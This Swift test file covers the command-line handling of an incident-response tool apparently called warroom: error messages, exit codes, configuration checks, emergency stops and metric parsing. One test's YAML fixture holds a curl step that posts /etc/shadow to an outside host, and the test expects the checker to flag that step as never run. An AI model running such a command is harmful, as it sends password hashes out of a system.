import Foundation
import Support
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// What the program says to bad input: one clear message, the right exit code, nothing lost.
@Suite struct CommandLineTests {
    struct Case: Sendable, CustomTestStringConvertible {
        var arguments: [String]
        var status: Int32
        var says: String
        var testDescription: String { arguments.joined(separator: " ") }
    }

    static let cases: [Case] = [
        Case(arguments: ["open", "INC-12"], status: 2, says: "Not an incident id"),
        Case(arguments: ["open", "inc-2041"], status: 2, says: "Not an incident id"),
        Case(arguments: ["open", "INC-123456789"], status: 2, says: "Not an incident id"),
        Case(arguments: ["report", "INC-9999"], status: 2, says: "There is no such incident"),
        Case(arguments: ["report", "x"], status: 2, says: "Not an incident id"),
        Case(arguments: ["frobnicate", "--hard"], status: 2, says: "--hard"),
        Case(arguments: ["drill", "no-such-drill"], status: 2, says: "no-such-drill"),
        Case(arguments: ["drill", "--speed", "0"], status: 2, says: "--speed"),
        Case(arguments: ["check", "/no/such/file.yaml"], status: 4, says: "/no/such/file.yaml"),
        Case(arguments: ["check", "/dev/null/x"], status: 4, says: "ENOTDIR"),
        Case(arguments: ["check", "/tmp"], status: 4, says: "not a regular file"),
        Case(arguments: ["verify", "/no/such/journal"], status: 4, says: "/no/such/journal"),
        Case(arguments: ["patterns"], status: 2, says: "files"),
        Case(arguments: ["patterns", "/no/such/a.log"], status: 4, says: "/no/such/a.log"),
        Case(arguments: ["patterns", "/tmp"], status: 4, says: "a directory"),
        Case(arguments: ["patterns", "--since", "noon", "-"], status: 2, says: "--since"),
        Case(arguments: ["open"], status: 4, says: "terminal"),
    ]

    @Test(arguments: cases) func badInputGetsOneClearMessage(_ it: Case) throws {
        let home = try TemporaryFolder()
        let result = try Self.run(it.arguments, home)
        #expect(result.status == it.status, "\(result.errors)")
        #expect(result.errors.contains(it.says), "\(result.errors)")
        #expect(result.output.isEmpty, "standard output is data alone: \(result.output)")
    }

    static func run(
        _ arguments: [String], _ home: TemporaryFolder, _ extra: [String: String] = [:]
    ) throws -> ChildProcess {
        var environment = [
            "XDG_STATE_HOME": home.path + "/state", "WARROOM_CONFIG_DIR": home.path + "/config",
        ]
        environment.merge(extra) { $1 }
        return try ChildProcess.run([try Repository.program] + arguments, environment: environment)
    }

    @Test("N19: a configuration that others can change is a finding, and opens nothing")
    func exposedConfiguration() throws {
        let home = try TemporaryFolder()
        mkdir(home.file("config"), 0o700)
        try home.write("environment: dev\nplaybooks: [mine.yaml]\n", to: "config/warroom.yaml")
        try home.write(
            "id: mine\ntitle: t\nhypotheses:\n  - {id: a, statement: s}\n",
            to: "config/mine.yaml")
        let path = home.file("config/warroom.yaml")
        let good = try Self.run(["check"], home)
        #expect(!good.output.contains("is not used"), "\(good.output)")
        for exposed in [path, home.file("config/mine.yaml")] {
            chmod(exposed, 0o666)
            let check = try Self.run(["check"], home)
            #expect(check.status == 1)
            #expect(
                check.output.contains("\(exposed) is not used: it is writable"), "\(check.output)")
            let doctor = try Self.run(["doctor"], home)
            #expect(doctor.status == 3, "\(doctor.errors)")
            #expect(doctor.errors.contains("This file is not used"), "\(doctor.errors)")
            // Stopping is never refused; the state directory's own file can always be written.
            let stop = try Self.run(["stop", "why"], home)
            #expect(stop.status == 0, "\(stop.errors)")
            #expect(stop.output.contains("EMERGENCY STOP ON"))
            #expect(stop.errors.contains("Only the usual stop files"), "\(stop.errors)")
            unlink(home.file("state/warroom/EMERGENCY_STOP"))
            chmod(exposed, 0o600)
        }
    }

    @Test("N09: check names a command line that no room would run")
    func commandsThatAreNeverRun() throws {
        let home = try TemporaryFolder()
        try home.write(
            """
            environment: dev
            actions:
              send:
                tier: contained
                risk: low
                steps: [[/usr/bin/curl, --data, '@/etc/shadow', 'https://example.com']]
                rollback: {steps: [[/usr/bin/true]]}
              far:
                tier: contained
                risk: low
                steps: [[/usr/bin/true]]
                rollback: {steps: [[/usr/bin/systemctl, -H, elsewhere, start, x]]}
            """, to: "w.yaml")
        let result = try Self.run(["check", home.file("w.yaml")], home)
        #expect(result.status == 1)
        #expect(result.output.contains("a step of send is never run"), "\(result.output)")
        #expect(result.output.contains("the rollback of far is never run"), "\(result.output)")
    }

    @Test func listsDrillsAsJSON() throws {
        let result = try Self.run(["drill", "--list", "--format", "json"], try TemporaryFolder())
        #expect(result.status == 0)
        #expect(result.output.contains("\"name\""))
        #expect(result.output.contains("bad-deploy"))
    }

    @Test func helpAndVersionAreData() throws {
        let home = try TemporaryFolder()
        let help = try Self.run(["--help"], home)
        #expect(help.status == 0)
        #expect(help.output.contains("USAGE"))
        #expect(help.errors.isEmpty)
        #expect(try Self.run(["--version"], home).status == 0)
    }

    @Test func malformedConfigurationIsNamedWithItsPosition() throws {
        let home = try TemporaryFolder()
        let path = try home.write("environment: prod\nsources: [\n", to: "warroom.yaml")
        let result = try Self.run(["check", path], home)
        #expect(result.status != 0)
        #expect((result.output + result.errors).contains("warroom.yaml:"))
    }

    @Test func evaluatesOverADump() throws {
        let home = try TemporaryFolder()
        let path = try home.write(
            "http_requests_total{code=\"200\"} 8\nhttp_requests_total{code=\"500\"} 2\n",
            to: "a.prom")
        let result = try Self.run(
            ["eval", "--format", "json", "sum(http_requests_total)", path], home)
        #expect(result.status == 0, "\(result.errors)")
        #expect(result.output.contains("\"status\":\"success\""))
        #expect(result.output.contains("\"10\""))
        let negative = try Self.run(["eval", "--format", "json", "-1 + 2", path], home)
        #expect(negative.output.contains("\"1\""), "\(negative.errors)")
    }

    @Test func assignsAPatternToEveryPhysicalLine() throws {
        let home = try TemporaryFolder()
        let text = "took 7 ms\n\nlost \u{1b}[2Jnode1\ntook 9 ms\n  at f(x)\nlost node22"
        let path = try home.write(text, to: "a.log")
        let result = try Self.run(["patterns", "--assign", "--input", "message", path], home)
        #expect(result.status == 0, "\(result.errors)")
        let rows = result.output.split(separator: "\n").map { $0.split(separator: "\t") }
        #expect(rows.map { $0[0] } == ["1", "2", "3", "4", "5", "6"])
        #expect(rows[0][1] == rows[3][1])
        #expect(Set(rows.map { $0[1] }).count == 5)
        #expect(rows.allSatisfy { $0[1].utf8.count == 8 })
        let again = try Self.run(["patterns", "--assign", "--input", "message", path], home)
        #expect(again.output == result.output)
        let table = try Self.run(["patterns", path], home)
        #expect(table.output.contains("took <num> ms"), "\(table.output)")
        #expect(!table.output.utf8.contains(0x1B))
        let json = try Self.run(["patterns", "--format", "json", path, path], home)
        #expect(json.output.contains("\"count\":4"), "\(json.output)")
    }

    @Test func answersAFileOfQueriesLineByLine() throws {
        let home = try TemporaryFolder()
        let dump = try home.write(
            "up{job=\"a\"} 1 60000\nup{job=\"a\"} 3 120000\nx y\n", to: "a.prom")
        let queries = try home.write(
            """
            {"expr":"up","time":120}

            {"expr":"up","start":60,"end":120,"step":60}
            {"expr":"up{"}

            """, to: "q.jsonl")
        let result = try Self.run(["eval", "--queries", queries, dump], home)
        #expect(result.status == 0, "\(result.errors)")
        #expect(result.errors.contains(dump + ":3"), "\(result.errors)")
        let lines = result.output.split(separator: "\n")
        #expect(lines.count == 4)
        #expect(lines[0].contains(#""value":[120,"3"]"#))
        #expect(lines[1].contains("bad_data"))
        #expect(lines[2].contains(#""values":[[60,"1"],[120,"3"]]"#))
        #expect(lines[3].contains("parse error"))
    }

    @Test func explainsAQueryAndFailsAsDocumented() throws {
        let home = try TemporaryFolder()
        let dump = try home.write("up 1 60000\nup 3 120000\n", to: "a.prom")
        let range = try Self.run(
            ["eval", "--explain", "--start", "now-1m", "--step", "1m", "-up", dump], home)
        #expect(range.status == 0, "\(range.errors)")
        #expect(range.output == "{}  -1@60 -3@120\n")
        #expect(range.errors.contains("1 series, 2 samples") && range.errors.contains("-up"))
        #expect(try Self.run(["eval", "up{", dump], home).status == 1)
        #expect(try Self.run(["eval", "--start", "soon", "up", dump], home).status == 2)
        #expect(
            try Self.run(["eval", "--start", "0", "--step", "0", "up", dump], home).status == 2)
        #expect(try Self.run(["eval", "up", home.file("missing")], home).status == 4)
        let noise = try home.write("not a dump at all {\n", to: "noise")
        #expect(try Self.run(["eval", "up", noise], home).status == 4)
    }

    @Test func parsesDumps() throws {
        let home = try TemporaryFolder()
        let good = try home.write("# TYPE a counter\na 1\n", to: "good.prom")
        let bad = try home.write("a 1\nb{ 2\n", to: "bad.prom")
        let cut = try home.write("# UNIT a_s s\na_s 1\n", to: "cut.prom")
        #expect(try Self.run(["parse", good], home).status == 0)
        let skipped = try Self.run(["parse", bad], home)
        #expect(skipped.status == 1)
        #expect(skipped.output.contains("expected a label name"), "\(skipped.output)")
        #expect(try Self.run(["parse", cut], home).status == 1)
        let missing = try Self.run(
            ["parse", "--format", "json", good, home.file("none"), bad], home)
        #expect(missing.status == 4 && missing.errors.contains("none"))
        #expect(missing.output.contains(#""metric":{"__name__":"a"},"value":"1""#))
        #expect(missing.output.contains(#"{"line":2,"reason":"expected"#))
        #expect(try Self.run(["parse"], home).status == 2)
    }

    @Test func stopIsSetAndTakenBack() throws {
        let home = try TemporaryFolder()
        let set = try Self.run(["stop", "moving the database"], home)
        #expect(set.status == 0, "\(set.errors)")
        #expect(set.output.contains("EMERGENCY STOP ON"))
        for line in set.output.split(separator: "\n") {
            #expect(line.contains(home.path), "a test may only write below its own folder: \(line)")
        }
        // This user's file stops no room of others, and whoever stops must not believe it.
        #expect(set.errors.contains("NOT STOPPED: rooms of other users"))
        #expect(try Self.run(["resume"], home).status == 0)
    }

    @Test func stopNeedsNoQuotes() throws {
        let home = try TemporaryFolder()
        let set = try Self.run(["stop", "db", "is", "moved"], home)
        #expect(set.status == 0, "\(set.errors)")
        let path = set.output.split(whereSeparator: \.isWhitespace).last.map(String.init) ?? ""
        #expect(path.hasPrefix(home.path + "/"), "\(set.output)")
        let name = String(path.dropFirst(home.path.count + 1))
        #expect(try home.text(name).hasPrefix("db is moved (set by "))
    }

    @Test func readOnlyStateIsOneClearMessage() throws {
        guard getuid() == 0 else {
            print("needs root to become a throw-away user: not run")
            return
        }
        let user = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
        guard Machine.allows(user) else { return }
        let home = try TemporaryFolder()
        chmod(home.path, 0o755)
        mkdir(home.file("drill"), 0o700)
        chown(home.file("drill"), 65534, 65534)
        let result = try ChildProcess.run(
            user + [try Repository.program, "drill", "--headless"],
            environment: ["XDG_STATE_HOME": home.path + "/state", "TMPDIR": home.file("drill")])
        #expect(result.status == 4, "\(result.errors)")
        #expect(result.errors.contains("EACCES"), "\(result.errors)")
        // What was made before it could not go on is gone again.
        #expect(try FileManager.default.contentsOfDirectory(atPath: home.file("drill")) == [])
    }

    /// Whatever a file is, reading it ends with one message that names it, and never hangs.
    @Test(arguments: ["missing", "folder", "fifo", "noise"])
    func filesThatAreNoDumps(_ kind: String) throws {
        let home = try TemporaryFolder()
        switch kind {
        case "folder": mkdir(home.file(kind), 0o755)
        case "fifo": mkfifo(home.file(kind), 0o600)
        case "noise": try home.write("\u{0}\u{1}{{{ 12 = ]\n", to: kind)
        default: break
        }
        let path = home.file(kind)
        for arguments in [["eval", "up", path], ["check", path]] {
            let result = try Self.run(arguments, home)
            // A dump with lines that are none is read all the same, with a warning.
            if kind != "noise" || arguments[0] == "check" {
                #expect(result.status != 0, "\(arguments): \(result.output)")
            }
            let text = result.errors + result.output
            #expect(text.contains(path), "\(arguments): \(text)")
        }
    }

    @Test func unreadableFilesAreNamed() throws {
        guard getuid() == 0 else {
            print("needs root to become a throw-away user: not run")
            return
        }
        let user = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
        guard Machine.allows(user) else { return }
        let home = try TemporaryFolder()
        chmod(home.path, 0o755)
        let path = try home.write("up 1\n", to: "secret.prom")
        chmod(path, 0o000)
        let result = try ChildProcess.run(
            user + [try Repository.program, "eval", "up", path])
        #expect(result.status == 4, "\(result.errors)")
        #expect(result.errors.contains(path) && result.errors.contains("EACCES"))
    }

    @Test func anUnknownActionInAPlaybookIsFound() throws {
        let home = try TemporaryFolder()
        try home.write(
            """
            id: errors
            title: Errors
            mitigations: [{action: restart-servce, why: it helps}]
            """, to: "errors.yaml")
        let path = try home.write(
            "environment: staging\nplaybooks: [\(home.file("errors.yaml"))]\n",
            to: "warroom.yaml")
        let result = try Self.run(["check", path], home)
        #expect(result.status != 0)
        let text = result.output + result.errors
        #expect(text.contains("restart-servce"), "\(text)")
        #expect(text.contains("errors.yaml:"), "\(text)")
    }

    /// On a disk without room nothing is opened, and that is said.
    @Test func aFullDiskIsOneClearMessage() throws {
        guard getuid() == 0 else {
            print("needs root to mount a small disk: not run")
            return
        }
        let home = try TemporaryFolder()
        mkdir(home.file("state"), 0o700)
        let script = """
            mount -t tmpfs -o size=64k none "$1" && head -c 60k /dev/zero > "$1/filler" \
            && exec "$2" drill --headless
            """
        let result = try ChildProcess.run(
            ["unshare", "-m", "sh", "-c", script, "sh", home.file("state")]
                + [try Repository.program],
            environment: ["XDG_STATE_HOME": home.file("state"), "TMPDIR": home.path])
        if result.errors.contains("unshare") || result.errors.contains("mount:") {
            print("no small disk can be mounted here: not run")
            return
        }
        #expect(result.status == 4, "\(result.errors)")
        #expect(result.errors.contains("ENOSPC"), "\(result.errors)")
    }
}
